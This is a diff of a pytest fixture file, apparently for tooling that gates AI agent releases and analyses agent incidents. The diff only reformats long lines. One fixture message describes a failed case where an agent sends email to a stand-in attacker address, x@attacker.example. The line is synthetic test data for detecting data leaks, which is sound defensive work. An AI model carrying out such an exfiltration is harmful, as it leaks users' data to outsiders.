@@ -27,7 +27,9 @@ def _item(sid: str, outcome: str, release: str, variant: str | None = None) -> d
         "tags": [],
         "outcome": outcome,
         "results": [],
-        "message": None if outcome == "passed" else f"{sid}: send_email(to=x@attacker.example) at step 3",
+        "message": None
+        if outcome == "passed"
+        else f"{sid}: send_email(to=x@attacker.example) at step 3",
         "diff": None,
         "duration_s": 0.002,
         "target": release,
@@ -42,7 +44,10 @@ def gate_report_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
     report = None
     for n, release in enumerate(["v1", "v2", "v3"]):
         items = [_item("inc-mail", "passed" if n < 2 else "failed", release)]
-        items += [_item("inc-mail", "failed" if i < n + 1 else "passed", release, f"conv{i}") for i in range(4)]
+        items += [
+            _item("inc-mail", "failed" if i < n + 1 else "passed", release, f"conv{i}")
+            for i in range(4)
+        ]
         report = finalize(
             items,
             suite={"name": "release_gate", "path": "suites/release_gate.yaml"},
@@ -60,8 +65,12 @@ def gate_report_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def incident_report_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """An incident bundle from the example agent's traffic, with blast radius and report."""
     base = tmp_path_factory.mktemp("incident")
-    log = generate_log(base / "log.jsonl", sessions=80, incidents=3, seed=7, start="2026-02-01T06:00:00Z")
-    take_snapshot([str(log["path"])], out=base / "bundle", sessions=[log["incident_session_ids"][0]])
+    log = generate_log(
+        base / "log.jsonl", sessions=80, incidents=3, seed=7, start="2026-02-01T06:00:00Z"
+    )
+    take_snapshot(
+        [str(log["path"])], out=base / "bundle", sessions=[log["incident_session_ids"][0]]
+    )
     sig = load_signature(str(base / "bundle"))
     write_result(blast_radius(sig, [str(log["path"])]), base / "bundle" / "followup")
     doc = collect_report(base / "bundle", scenarios_dir=base / "no-scenarios")
